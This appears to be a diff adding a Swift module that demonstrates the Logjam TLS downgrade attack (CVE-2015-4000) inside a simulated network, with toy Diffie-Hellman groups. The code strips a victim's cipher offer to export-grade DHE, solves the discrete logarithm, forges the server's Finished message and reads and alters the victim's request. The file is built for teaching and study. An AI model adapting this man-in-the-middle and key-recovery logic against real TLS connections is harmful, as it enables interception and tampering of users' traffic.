@@ -1,0 +1,242 @@
+import Crypto
+import Simulator
+import Synchronization
+import TCPSim
+import TLSSim
+import Trace
+
+/// An honest signature under a weak group, and an exponent that is found in time (Adrian and others 2015).
+package enum Logjam: Exhibit {
+    package static let card = Card(
+        "logjam", .handshake, .inPath, .read, variants: ["56-bits", "40-bits"], unit: "exponents", year: 2015,
+        cites: [.rfc(7919, "3"), .rfc(5246, "7.4.3"), .rfc(9325, "4.5")], cves: ["CVE-2015-4000"],
+        legs: [.victim, .server], words: LogjamCard.self)
+
+    /// The server's export group, and how she deals with it.
+    private struct Ground: Sendable {
+        let group: FiniteFieldGroup
+        /// The greatest prime of the factor base.
+        let bound: UInt64
+        /// The share of numbers below p without a greater prime factor. Counted, with squares modulo p drawn at random, so many that it is
+        /// right to three digits.
+        let share: Double
+
+        var p: UInt64 { Logjam.number(group.p.bigEndian) }
+
+        static func of(_ variant: String) -> Ground {
+            variant == "40-bits"
+                ? Ground(group: .toy40, bound: 500, share: 1 / 434) : Ground(group: .toy56, bound: 3_000, share: 1 / 1_448)
+        }
+    }
+
+    package static func perform(_ show: Performance) throws -> Outcome {
+        let stage = show.stage()
+        let victims = try Victims(show, .dheRSAAES128GCM)
+        let ground = Ground.of(show.variant)
+        let (client, server) = show.pair(on: stage, apart: true)
+        var attacker = show.attackerInTheMiddle(of: stage)
+        let lines = attacker.listen(at: 443, on: .victim)
+        let request = show.request
+        stage.listen(server, port: 443) { _ in
+            victims.server(configure: {
+                $0.cipherSuites = [.dheRSAAES128GCM, .dheRSAExport]
+                $0.exportGroup = ground.group
+            })
+        }
+        stage.connect(
+            client, from: 50_000, to: Socket(.server, 443),
+            victims.client(
+                says: [request],
+                configure: {
+                    if !show.isDefended { $0.groupPolicy = .init(minimumBits: 1, acceptsToys: true) }
+                }))
+
+        var outcome = Outcome()
+        outcome.theory = .geometric(ground.share, "geometric(u)", [("u", ground.share)])
+        let calculus = Self.calculus(ground, seed: show.seed, &attacker.random)
+        let count = Double(calculus.relations)
+        outcome.figures = [
+            Figure(
+                "precomputation", "exponents", Double(calculus.trials),
+                Theory(
+                    mean: count / ground.share, deviation: (count * (1 - ground.share)).squareRoot() / ground.share,
+                    "R · geometric(u)", [("R", count), ("u", ground.share)]))
+        ]
+        outcome.evidence = [
+            ("victim", .socket(Socket(.client, 50_000))), ("p", .string(Hex.string(ground.group.p.bigEndian))),
+            ("g", .string(Hex.string(ground.group.g.bigEndian))), ("bound", .number(Int(ground.bound))),
+            ("relations", .number(calculus.relations)),
+        ]
+        outcome.say(
+            LogjamNote.precomputes(
+                bits: ground.group.p.bitWidth, primes: calculus.base.count, bound: Int(ground.bound), calculus.relations,
+                trials: calculus.trials), cite: .rfc(7919, "3"))
+        guard let middle = Middle(attacker, lines, to: Socket(.server, 443)) else { return outcome }
+        var fraud = Fraud(calculus, attacker)
+        middle.relay(passesEnds: false, until: { fraud.isOver }) { role, octets in
+            role == .server ? fraud.hear(server: octets, middle, &outcome) : fraud.hear(victim: octets, middle, &outcome)
+        }
+        outcome.tries = fraud.trials
+        outcome.reached = !fraud.request.isEmpty
+        guard outcome.reached else {
+            outcome.say(
+                LogjamNote.refused(fraud.refusal?.description ?? ""), frames: [attacker.frame(.victim)], on: .victim,
+                cite: .rfc(9325, "4.5"))
+            return outcome
+        }
+        outcome.loot = [("exponent", fraud.exponent), ("request", fraud.request)]
+        outcome.truth = [("request", request)]
+        outcome.say(LogjamNote.reads(octets: fraud.request.count), frames: [attacker.frame(.victim)], on: .victim)
+        outcome.reproduce = [
+            "tshark -r VICTIM -Y tls.handshake.ys -T fields -e tls.handshake.p -e tls.handshake.g -e tls.handshake.ys | "
+                + "python3 -c 'import sys; p, g, ys = [int(x.replace(\":\", \"\"), 16) for x in sys.stdin.read().split()]; "
+                + "print(pow(g, 0x\(Hex.string(fraud.exponent)), p) == ys)'",
+            "tshark -r VICTIM -Y 'tls.handshake.type==2' -T fields -e tls.handshake.ciphersuite",
+            "tshark -r SERVER -Y 'tls.handshake.type==2' -T fields -e tls.handshake.ciphersuite",
+        ]
+        return outcome
+    }
+
+    /// A number of at most eight octets.
+    fileprivate static func number(_ octets: [UInt8]) -> UInt64 { octets.suffix(8).reduce(0) { $0 << 8 | UInt64($1) } }
+
+    // MARK: Once for the prime
+
+    /// The last work that was done: with the rule and without it is the same.
+    private static let latest = Mutex<[(seed: UInt64, p: UInt64, IndexCalculus)]>([])
+
+    private static func calculus(
+        _ ground: Ground, seed: UInt64, _ random: inout SeededRandomSource
+    ) -> IndexCalculus {
+        if let known = latest.withLock({ $0.first { $0.seed == seed && $0.p == ground.p } }) { return known.2 }
+        var random = random.fork("relations")
+        let made = IndexCalculus(
+            p: ground.p, g: Self.number(ground.group.g.bigEndian), bound: ground.bound, using: &random)
+        latest.withLock { $0 = [(seed, ground.p, made)] + $0.prefix(1) }
+        return made
+    }
+}
+
+/// What she does with the two connections.
+private struct Fraud {
+    private let calculus: IndexCalculus
+    private var attacker: Attacker
+    private var (near, far) = (RecordRelay(), RecordRelay())
+    /// The victim's handshake as the victim knows it.
+    private var transcript: [HandshakeMessage] = []
+    private var offer: ServerDHParams?
+    private var randoms: (client: [UInt8], server: [UInt8]) = ([], [])
+    private var schedule: KeySchedule?
+    private(set) var exponent: [UInt8] = []
+    private(set) var trials = 0
+    private(set) var request: [UInt8] = []
+    private(set) var refusal: AlertDescription?
+    private(set) var isOver = false
+
+    private static let suite = CipherSuite.dheRSAAES128GCM
+
+    init(_ calculus: IndexCalculus, _ attacker: Attacker) {
+        self.calculus = calculus
+        self.attacker = attacker
+    }
+
+    /// The server's flight goes on with the suite that the victim has offered. Behind it the server is left.
+    mutating func hear(server octets: [UInt8], _ middle: Middle, _ outcome: inout Outcome) -> [UInt8] {
+        far.append(octets)
+        var passed: [UInt8] = []
+        while case .message(var message)? = far.next() {
+            if message.type == .serverHello, var hello = try? message.parsed(ServerHello.read) {
+                outcome.say(
+                    LogjamNote.answered(CipherSuite.dheRSAExport.description, says: Self.suite.description),
+                    frames: [attacker.frame(.server)], on: .server)
+                randoms.server = hello.random
+                hello.cipherSuite = Self.suite.codePoint
+                message = hello.message
+            } else if message.type == .serverKeyExchange {
+                offer = try? message.parsed { reader throws(ParseError) in
+                    guard case .finiteField(let params) = try ServerKeyExchange.read(from: &reader, kind: .dheRSA).params
+                    else { return nil }
+                    return params
+                }
+            } else if message.type == .serverHelloDone {
+                middle.server.abort()
+            }
+            transcript.append(message)
+            passed += near.write(message)
+        }
+        return passed
+    }
+
+    /// What the victim says goes to the server as far as the hello, in which there is no suite but the one for export.
+    mutating func hear(victim octets: [UInt8], _ middle: Middle, _ outcome: inout Outcome) -> [UInt8] {
+        var passed: [UInt8] = []
+        near.append(octets)
+        while let piece = near.next() {
+            switch piece {
+            case .message(let message):
+                transcript.append(message)
+                switch message.type {
+                case .clientHello:
+                    guard var hello = try? message.parsed(ClientHello.read) else { continue }
+                    randoms.client = hello.random
+                    outcome.say(
+                        LogjamNote.rewrites(Self.suite.description, CipherSuite.dheRSAExport.description),
+                        frames: [attacker.frame(.server) + 1], on: .server)
+                    hello.cipherSuites = [CipherSuite.dheRSAExport.codePoint]
+                    passed += far.write(hello.message)
+                case .clientKeyExchange: breakExchange(message, &outcome)
+                case .finished: finish(middle)
+                default: break
+                }
+            case .content(.changeCipherSpec, _): if let schedule { near.reading.startReading(with: schedule.clientProtection) }
+            case .content(.applicationData, let data):
+                request += data
+                middle.victim.send(near.write(.applicationData, Money.altered(Money.answer)))
+                middle.victim.send(near.write(.alert, Alert(.warning, .closeNotify).bytes))
+                middle.victim.close()
+            case .content(.alert, let octets):
+                refusal = (try? Alert.read(octets))?.name
+                isOver = true
+            case .content(.handshake, _): break
+            }
+        }
+        return passed
+    }
+
+    /// The exponent behind the server's value, and with it the keys.
+    private mutating func breakExchange(_ message: HandshakeMessage, _ outcome: inout Outcome) {
+        let answer = try? message.parsed { reader throws(ParseError) in
+            try ClientKeyExchange.read(from: &reader, kind: .dheRSA)
+        }
+        guard let offer, case .publicValue(let theirs)? = answer, number(offer.p) == calculus.p else { return }
+        let (x, tried) = calculus.logarithm(of: number(offer.ys), using: &attacker.random)
+        trials += tried
+        exponent = Integer(x).bigEndian
+        outcome.say(
+            LogjamNote.found(trials: tried), frames: [attacker.frame(.victim)], on: .victim, cite: .rfc(5246, "7.4.3"),
+            [.init("dh_Ys", offer.ys), .init("exponent x", exponent)])
+        guard
+            let group = try? FiniteFieldGroup(
+                custom: Integer(bigEndian: offer.p), generator: Integer(bigEndian: offer.g)),
+            let key = try? DiffieHellmanKey(group: group, privateExponent: Integer(x)),
+            let secret = try? key.sharedSecret(with: Integer(bigEndian: theirs))
+        else { return }
+        schedule = KeySchedule(
+            premasterSecret: secret.stripped, clientRandom: randoms.client, serverRandom: randoms.server,
+            suite: Self.suite)
+    }
+
+    /// ChangeCipherSpec and the server's Finished.
+    private mutating func finish(_ middle: Middle) {
+        guard let schedule else { return }
+        middle.victim.send(near.write(.changeCipherSpec, [1]))
+        near.writing.startWriting(with: schedule.serverProtection)
+        let hash = Self.suite.hash.hash(transcript.flatMap(\.bytes))
+        middle.victim.send(
+            near.write(Finished(verifyData: schedule.verifyData(of: .server, transcriptHash: hash)).message))
+    }
+
+    private func number(_ octets: [UInt8]) -> UInt64 {
+        octets.count > 8 ? 0 : octets.reduce(0) { $0 << 8 | UInt64($1) }
+    }
+}
